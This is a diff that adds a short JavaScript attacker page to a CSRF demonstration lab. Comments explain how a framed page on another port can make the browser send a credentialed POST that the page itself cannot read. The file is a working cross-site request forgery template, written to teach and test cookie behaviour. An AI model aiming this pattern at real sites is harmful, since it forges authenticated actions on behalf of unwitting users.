@@ -1,0 +1,15 @@
+// The CSRF experiment's attacker: a page on another port (the same site), framed by the experiment window. It
+// cannot read anything of the lab's, but it can make the browser SEND a request there; the browser decides which
+// cookies ride along. `no-cors` is what any page may do without permission: the answer stays opaque to it.
+const params = new URLSearchParams(location.search);
+const target = params.get('target');
+const path = params.get('path');
+
+async function attack() {
+  if (target && path) {
+    await fetch(`${target}${path}`, { method: 'POST', credentials: 'include', mode: 'no-cors' }).catch(() => undefined);
+  }
+  window.parent.postMessage({ attacked: true }, target ?? '*');
+}
+
+attack();
